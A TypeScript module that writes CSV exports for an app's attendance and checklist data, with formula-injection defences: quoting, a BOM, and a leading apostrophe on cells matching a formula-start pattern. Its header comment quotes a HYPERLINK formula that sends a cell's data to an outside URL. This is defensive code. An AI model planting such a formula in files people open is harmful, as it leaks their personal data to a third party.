/**
 * The one CSV writer of the app (attendance, checklists, and any export to come), so every file a
 * person downloads is safe to open in Excel, LibreOffice or Google Sheets:
 *
 * - UTF-8 with a byte-order mark, so spreadsheet programs keep accents and «ñ»;
 * - comma separators and CRLF line ends (es-PE writes decimals with a point, so Windows' list
 *   separator for Spanish (Peru) is the comma, which is what Excel splits on; LibreOffice and
 *   Google Sheets detect it too; a `sep=` line would make Excel ignore the BOM);
 * - every field quoted (RFC 4180), so commas and line breaks stay inside their cell;
 * - text that a spreadsheet would read as a formula (a cell starting with `=`, `+`, `-`, `@`, a
 *   tab, a carriage return, a line feed or NUL — OWASP's CSV injection list and ASVS 1.2.10 —
 *   and their full-width forms) gets a leading `'`, so it is shown as the text that was typed.
 *   A name like `=HYPERLINK("https://…?d="&C2,"Ver")` typed by anyone at a workshop door would
 *   otherwise send other people's data away when the facilitador opens the file.
 *
 * Only a `number` cell is written bare: numbers come from the app's own counts, never from text
 * a person typed, so they stay numbers (a negative count cannot happen, and even one would be a
 * number the app computed). Everything typed is a string and is neutralised.
 */

/** One cell: text (neutralised when it looks like a formula) or a number the app computed. */
export type CsvCell = string | number;

/** The byte-order mark that makes spreadsheet programs read the file as UTF-8. */
export const CSV_BOM = '\uFEFF';
/** The separator (see above). */
export const CSV_SEPARATOR = ',';

/** First characters a spreadsheet treats as the start of a formula (or strips before one). */
const FORMULA_START = /^[=+\-@\t\r\n\0\uFF1D\uFF0B\uFF0D\uFF20]/;

/** Whether a spreadsheet would read this text as a formula rather than as text. */
export function isFormulaLike(text: string): boolean {
  return FORMULA_START.test(text);
}

/** The text a spreadsheet shows as typed: a leading `'` when it would start a formula. */
export function neutraliseCell(text: string): string {
  return isFormulaLike(text) ? `'${text}` : text;
}

/** One quoted field: numbers bare (app-made), text neutralised, quotes doubled. */
function formatCell(cell: CsvCell): string {
  if (typeof cell === 'number') return Number.isFinite(cell) ? String(cell) : '""';
  return `"${neutraliseCell(cell).replace(/"/g, '""')}"`;
}

/** The whole file: BOM, one line per row, CRLF, every line ended (what spreadsheet programs expect). */
export function formatCsv(rows: readonly (readonly CsvCell[])[]): string {
  return CSV_BOM + rows.map((cells) => cells.map(formatCell).join(CSV_SEPARATOR)).join('\r\n') + '\r\n';
}
